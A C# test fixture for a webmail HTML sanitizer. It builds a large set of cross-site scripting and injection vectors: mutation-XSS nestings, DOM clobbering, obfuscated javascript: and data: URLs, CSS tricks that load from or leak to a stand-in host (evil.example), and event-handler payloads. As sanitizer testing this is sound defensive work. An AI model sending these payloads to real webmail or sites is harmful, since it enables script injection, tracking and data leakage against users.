namespace Webmail.Html.Tests.Browser;

/// <summary>
/// Classes of trick that no published list at hand has: markup that changes its meaning when read again, names that stand in front of the page's own, addresses that
/// readers take apart differently, boxes that would leave their place. Written for this project.
/// </summary>
internal static class HardVectors
{
    private const string Url = "http://evil.example/x";
    private const string Run = "<img src=x onerror=alert(1)>";

    /// <summary>Elements in whose content markup is text for one reader and markup for another.</summary>
    private static readonly string[] Raw =
        ["style", "title", "textarea", "xmp", "plaintext", "listing", "noscript", "noembed", "noframes", "iframe", "script", "template", "select", "option", "math", "svg", "desc", "foreignObject", "annotation-xml", "mtext", "mi", "mglyph", "malignmark", "button", "caption"];

    private static readonly string[] Nested =
    [
        "<svg><{0}><style><!--</style>{1}-->", "<math><mtext><{0}><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
        "<{0}><p id=\"</{0}>{1}\">", "<table><{0}><tr><td>{1}</{0}></table>", "<form><{0}></form><form>{1}</form></{0}>", "<{0}><!--</{0}>{1}-->", "<!--<{0}>--!>{1}</{0}>",
        "<select><{0}>{1}</{0}></select>", "<p><{0}><p></{0}>{1}", "<a><{0}><a></{0}>{1}</a>", "<svg><![CDATA[<{0}>{1}]]></{0}></svg>", "<math><annotation-xml encoding=\"text/html\"><{0}>{1}</{0}></annotation-xml></math>",
        "<math><annotation-xml encoding=x><{0}>{1}</{0}><style><{0} title='</style>{1}'>", "<template><{0}>{1}</{0}></template>{1}", "<ruby><rt><{0}><rt>{1}</{0}></ruby>", "<{0}\0>{1}</{0}>", "<{0}/><style></{0}>{1}</style>",
        "<noscript><{0} title='</noscript>{1}'>", "<b><i><{0}></b>{1}</i></{0}>", "<table><td><{0}><table></{0}>{1}", "<dd><{0}><dt></{0}>{1}", "<h1><{0}><h2></{0}>{1}", "<frameset><{0}>{1}", "<body><{0}></body><html lang=x>{1}",
    ];

    /// <summary>Ids and names that scripts find instead of what they look for.</summary>
    private static readonly string[] Clobbering =
    [
        "<form id=document><input id=body name=body></form>", "<img name=cookie><img name=getElementById>", "<a id=parent></a><a id=parent name=postMessage href='cid:alert(1)'>x</a>", "<form name=location><input name=pathname></form>",
        "<iframe name=top></iframe><object id=self></object>", "<div id=webmail-page class='webmail-page webmail-fold webmail-folded'>x</div>", "<div class='mail-root m-blocked'><section class=mail-body>x</section></div>", "<form><input name=attributes><input name=childNodes><input name=nodeName></form>",
        "<a id=__proto__ name=constructor>x</a>", "<button class=webmail-fold aria-expanded=true>…</button>", "<p class=plain id=m-x>x</p>", "<meta name=referrer content=unsafe-url>" + "<img src='" + Url + "'>",
    ];

    /// <summary>Addresses with characters that some readers skip; each stands in every attribute that takes one.</summary>
    private static readonly string[] Addresses =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "&#1;javascript:alert(1)", " javascript:alert(1)", "javascript&colon;alert(1)", "&#x6a&#x61&#x76&#x61script&#58;alert(1)",
        "javascript&Tab;:alert(1)", "javascript&NewLine;:alert(1)", "\u00A0javascript:alert(1)", "\uFEFFjavascript:alert(1)", "\u202Ejavascript:alert(1)", "javascript\0:alert(1)", "vbscript:x", "livescript:x", "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "data:image/s vg+xml,<svg onload=alert(1)>", "data:image/png,<svg onload=alert(1)>", "blob:http://evil.example/x", "filesystem:http://evil.example/x",
        "view-source:http://evil.example/", "file:///etc/passwd", "about:blank", "jar:http://evil.example/!/x", "feed:javascript:alert(1)", "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example/x", "http:evil.example", "ht\ntp://evil.example/x", "http:\\\\evil.example",
        "http://evil.example\u202E/x", "http://e\u00ADvil.example/x", "https://trusted.example\\@evil.example/", "http://[::ffff:127.0.0.1]/", "ws://evil.example/", "cid:x\"onerror=alert(1)", "mailto:x@y.example?attach=/etc/passwd&cc=z", "x-apple:alert(1)", "+ADw-script+AD4-alert(1)",
    ];

    private static readonly string[] Takers =
    [
        "<a href=\"{0}\">x</a>", "<img src=\"{0}\">", "<area href=\"{0}\">", "<svg><a xlink:href=\"{0}\"><text>x</text></a></svg>", "<form action=\"{0}\"><button formaction=\"{0}\">x</button></form>", "<base href=\"{0}\"><a href=x>y</a>",
        "<iframe src=\"{0}\"></iframe>", "<p style=\"background:url('{0}')\">x</p>", "<link rel=stylesheet href=\"{0}\">", "<object data=\"{0}\"><p>x</p></object>", "<body background=\"{0}\">", "<img srcset=\"{0} 1x\">", "<meta http-equiv=refresh content=\"0;url={0}\">",
    ];

    /// <summary>CSS that would load, read or leave its box if it were taken as it stands.</summary>
    private static readonly string[] Css =
    [
        "background:u\\rl({0})", "background:\\75 rl({0})", "background:\\000075\\000072\\00006c({0})", "background:url(\\68ttp://evil.example/x)", "background:url(\"{0}\\", "background:url(  '{0}'  )", "background:image-set('{0}' type('image/png') 1x)",
        "background:-webkit-image-set(url({0}) 1x,url({0}) 2x)", "background:-webkit-cross-fade(url({0}),url({0}),.5)", "background:-webkit-canvas(x)", "background:-moz-element(#x)", "background:paint(x)", "background:image(ltr '{0}',red)", "background:src('{0}')",
        "--a:url({0});background:var(--a)", "background:var(--a,url({0}))", "background:attr(title type(<url>))", "content:url({0})", "content:attr(title)", "list-style:square url({0})", "cursor:url({0}),auto", "border-image:url({0}) 30 round",
        "-webkit-mask-box-image:url({0})", "-webkit-box-reflect:below 0 url({0})", "mask:url({0}#m)", "filter:url({0}#f)", "backdrop-filter:url({0}#f)", "clip-path:url({0}#c)", "shape-outside:url({0})", "offset-path:url({0})", "fill:url({0})", "marker:url({0})",
        "behavior:url({0})", "-moz-binding:url({0})", "-ms-behavior:url({0})", "width:expression(alert(1))", "width:e/**/xpression(alert(1))", "filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='{0}')", "background:url(javascript:alert(1))",
        "position:fixed;inset:0;z-index:2147483647;background:red", "position:absolute;top:-999px;left:-999px", "position:sticky;top:0", "transform:translate(-999px,-999px) scale(99)", "translate:-999px", "rotate:45deg;scale:99", "zoom:99", "margin:-9999px 0 0 -9999px",
        "display:block;float:left;width:99999px;height:99999px", "animation:x 1s infinite", "transition:all 1s", "will-change:transform", "contain:none;content-visibility:auto", "anchor-name:--x;position-anchor:--x", "view-transition-name:root", "pointer-events:none", "user-select:none",
        "column-count:99999;column-width:1px", "box-shadow:0 0 99999px 99999px red", "outline:99999px solid red", "text-indent:-99999px", "letter-spacing:99999px", "width:1e308px", "width:calc(1px*1e308)", "line-height:0;font-size:99999px", "grid-template-columns:repeat(99999,1px)",
        "color:red;}}*{{background:url({0})", "color:red</style><img src={0}>", "color:red\\;background:url({0})", "color:red/*;*/;background:url({0})", "font-family:'\\27;background:url({0})'", "font-family:\"</style>\"", "font-family:x\\7d *\\7b color:red", "all:unset;background:url({0})",
    ];

    private static readonly string[] SheetOnly =
    [
        "a[href^='h']{{background:url({0}?a)}}", "input[value$=x]~*{{background:url({0})}}", "@font-face{{font-family:f;src:url({0});unicode-range:U+0041}}p{{font-family:f}}", "p:visited{{background:url({0})}}", "::-webkit-scrollbar{{background:url({0})}}",
        "p::first-line{{background:url({0})}}", "p::selection{{background:url({0})}}", "@import\\20 '{0}';", "@\\69mport '{0}';", "@import/**/'{0}';", "\uFEFF@import '{0}';", "@import '{0}'layer(x);", "@media x{{}}@import '{0}';", "@media print{{p{{background:url({0})}}}}",
        "@scope(p){{*{{background:url({0})}}}}", "@starting-style{{p{{background:url({0})}}}}", "@font-palette-values --x{{}}", "@counter-style x{{system:fixed;symbols:url({0});}}ul{{list-style:x}}", "@view-transition{{navigation:auto}}", "@position-try --x{{inset:0}}",
        "p{{.x &{{background:url({0})}}}}", "p{{@media all{{background:url({0})}}}}", ":is(p,{{)}}{{background:url({0})}}", "p\\{{color:red}}*{{background:url({0})}}", "p{{a:b;{{background:url({0})}}}}", "p{{color:red;}}]]>*{{background:url({0})}}", "&lt;/style&gt;" + Run,
        "<!--</style>" + Run + "<style>-->", "/*</style>" + Run + "*/", "'</style>" + Run + "'", "<![CDATA[</style>" + Run + "]]>", "p{{color:red}}</style \t>" + Run, "</STYLE/>" + Run, "</style\0>" + Run, "html,body,:root,*{{display:none;position:fixed;background:url({0})}}",
    ];

    private static readonly string[] Loads =
    [
        "<img src='{0}'srcset='{0} 2x'sizes=1px loading=eager>", "<img src=x:y srcset=',{0},'>", "<img/src='{0}'/>", "<img \0src='{0}'>", "<IMG SRC='{0}'>", "<img src='{0}' crossorigin=use-credentials referrerpolicy=unsafe-url>", "<img attributionsrc='{0}'>", "<a href=# attributionsrc='{0}'>x</a>",
        "<link rel='preload' as=font href='{0}'>", "<link rel=compression-dictionary href='{0}'>", "<link rel='expect stylesheet' blocking=render href='{0}'>", "<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{0}\"]}}]}}</script>", "<script type=importmap>{{\"imports\":{{\"a\":\"{0}\"}}}}</script>",
        "<meta http-equiv='Link' content='<{0}>;rel=preload;as=image'>", "<meta http-equiv=set-cookie content=x>", "<meta http-equiv=x-dns-prefetch-control content=on><a href='{0}'>x</a>", "<meta http-equiv=accept-ch content=dpr>", "<meta property=og:image content='{0}'>",
        "<video><source src='{0}'><source srcset='{0}'></video>", "<video src='{0}' preload=auto></video>", "<audio autoplay><source src='{0}'></audio>", "<input type=image formaction='{0}' src='{0}'>", "<input type=IMAGE src='{0}'>", "<object type=image/png data='{0}'></object>",
        "<embed type=text/html src='{0}'>", "<frame src='{0}'>", "<frameset onload=alert(1)><frame src='{0}'></frameset>", "<iframe loading=eager src='{0}'></iframe>", "<iframe srcdoc='&lt;img src={0}&gt;'></iframe>", "<svg><image xlink:href='{0}' href='{0}'/></svg>", "<svg><use xlink:href='{0}#x'/></svg>",
        "<svg><g style='fill:url({0}#x)'/><rect fill='url( {0}#x' /></svg>", "<svg><animate attributeName=' xlink:href' values='{0}'/></svg>", "<svg><discard onbegin=alert(1) />", "<svg><handler xmlns:ev=x ev:event=load>alert(1)</handler></svg>", "<svg><tref xlink:href='{0}'/></svg>",
        "<svg xmlns:x='http://www.w3.org/1999/xlink'><image x:href='{0}'/></svg>", "<math><maction actiontype='statusline#{0}' xlink:href='{0}'>x</maction></math>", "<table><tbody background='{0}'><tr><td>x</table>", "<table><col background='{0}'><td background=' {0}'>x</table>",
        "<ul style='list-style-image:url({0})'><li>x</ul>", "<menu type=context><menuitem icon='{0}' label=x></menu>", "<html manifest='{0}' xmlns='{0}'>", "<head profile='{0}'>", "<del cite='{0}'>x</del><ins cite='{0}'>y</ins>", "<div style=background-image:url({0})>x</div>",
        "<input list=x><datalist id=x><option value='{0}'></datalist>", "<keygen challenge='{0}'>", "<marquee behavior=alternate onfinish=alert(1) src='{0}'>x</marquee>", "<layer src='{0}'></layer><ilayer src='{0}'></ilayer>", "<xml src='{0}'></xml>", "<v:imagedata src='{0}'/>",
        "<!DOCTYPE x [<!ENTITY y SYSTEM '{0}'>]><p>&y;</p>", "<?xml version='1.0'?><?xml-stylesheet type='text/css' href='{0}'?><p>x</p>", "<webview src='{0}'></webview>", "<model src='{0}'></model>", "<selectedcontent><img src='{0}'></selectedcontent>", "<x-y shadowroot=open><img src='{0}'></x-y>",
    ];

    private static readonly string[] Handlers =
    [
        "onload", "onerror", "onfocus", "onanimationstart", "ontransitionend", "ontoggle", "onbeforetoggle", "onbegin", "onscrollend", "onscrollsnapchange", "oncontentvisibilityautostatechange", "onpointerover", "onsecuritypolicyviolation", "ONLOAD", "on\0load", "/onload", "onload ",
    ];

    /// <summary>Each vector as a document of its own.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. Raw.SelectMany(name => Nested.Select(pattern => Fill(pattern, name, Run))),
        .. Clobbering,
        .. Addresses.SelectMany(address => Takers.Select(pattern => Fill(pattern, address))),
        .. Css.SelectMany(css => (string[])[$"<p style=\"{Attribute(Fill(css, Url))}\">x</p>", $"<style>p{{{Fill(css, Url)}}}</style><p title=x>x</p>"]),
        .. SheetOnly.Select(sheet => $"<style>{Fill(sheet, Url)}</style><p title=x>x</p>"),
        .. Loads.Select(pattern => Fill(pattern, Url)),
        .. Handlers.SelectMany(name => (string[])[$"<img src=x {name}=alert(1)>", $"<svg {name}=alert(1)><p>x", $"<details open {name}=alert(1)>x</details>", $"<p style='animation:x 1s' {name}=alert(1) tabindex=1 autofocus>x"]),
    ];

    private static string Attribute(string css) => css.Replace("\"", "&quot;", StringComparison.Ordinal);

    private static string Fill(string pattern, params object[] values) => string.Format(System.Globalization.CultureInfo.InvariantCulture, pattern, values);
}
